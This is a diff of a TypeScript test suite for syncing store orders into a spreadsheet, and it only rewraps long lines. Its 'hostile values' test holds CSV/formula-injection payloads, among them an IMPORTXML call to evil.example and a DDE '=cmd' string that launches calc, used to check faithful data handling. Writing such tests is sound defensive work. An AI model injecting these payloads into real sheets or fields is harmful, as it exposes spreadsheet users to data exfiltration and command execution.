@@ -43,7 +43,9 @@ describe('a store in Auckland, a spreadsheet in Los Angeles', () => {
     // Somewhere in a year of history the two zones disagree about the day of an order.
     const orders = await truthOrders();
     const day = (iso: string, timeZone: string): string => new Date(iso).toLocaleDateString('en-CA', { timeZone });
-    expect(orders.some((o) => day(String(o.created_at), STORE_ZONE) !== day(String(o.created_at), SHEET_ZONE))).toBe(true);
+    expect(orders.some((o) => day(String(o.created_at), STORE_ZONE) !== day(String(o.created_at), SHEET_ZONE))).toBe(
+      true,
+    );
   });
 });
 
@@ -51,7 +53,8 @@ describe('hostile values', () => {
   it('formula-looking, numeric-looking, long, unicode, huge, negative, empty and null values land exactly as the API sent them', async () => {
     const orders = await truthOrders();
     const [a, b, c, d] = orders.slice(10, 14);
-    const formula = (n: number): string => ['=1+1', '+SUM(A1:A9)', '-2+3', '@A1', '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0"][n % 6];
+    const formula = (n: number): string =>
+      ['=1+1', '+SUM(A1:A9)', '-2+3', '@A1', '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0"][n % 6];
     await stack.control(`orders/${String(a.id)}/patch`, {
       order_number: formula(0),
       platform: formula(1),
@@ -75,7 +78,12 @@ describe('hostile values', () => {
     await stack.control(`orders/${String(b.id)}/patch`, {
       order_number: '00123',
       customer_ref: 'R'.repeat(60_000),
-      attribution: { utm_term: '1e5', utm_content: 'TRUE', landing_page: '2025-01-01', utm_campaign: 'שלום 👋🏽 e\u0301 \t tab\nnew line' },
+      attribution: {
+        utm_term: '1e5',
+        utm_content: 'TRUE',
+        landing_page: '2025-01-01',
+        utm_campaign: 'שלום 👋🏽 e\u0301 \t tab\nnew line',
+      },
       line_items: [{ id: lineIds(b)[0], name: 'a'.repeat(49_964) + '😀'.repeat(2_000) }],
     });
     await stack.control(`orders/${String(c.id)}/patch`, {
@@ -102,7 +110,9 @@ describe('hostile values', () => {
     const truthD = (await truthOrders()).find((o) => o.id === d.id) as Json;
     expect((truthD.attribution as Json).utm_medium).toBe('');
     expect(row(d.id)[headers.indexOf('utm_medium')]).toBe('');
-    expect(row(d.id)[headers.indexOf('cogs')]).toBe(truthD.economics && (truthD.economics as Json).cogs === null ? '' : (truthD.economics as Json).cogs);
+    expect(row(d.id)[headers.indexOf('cogs')]).toBe(
+      truthD.economics && (truthD.economics as Json).cogs === null ? '' : (truthD.economics as Json).cogs,
+    );
   });
 });
 
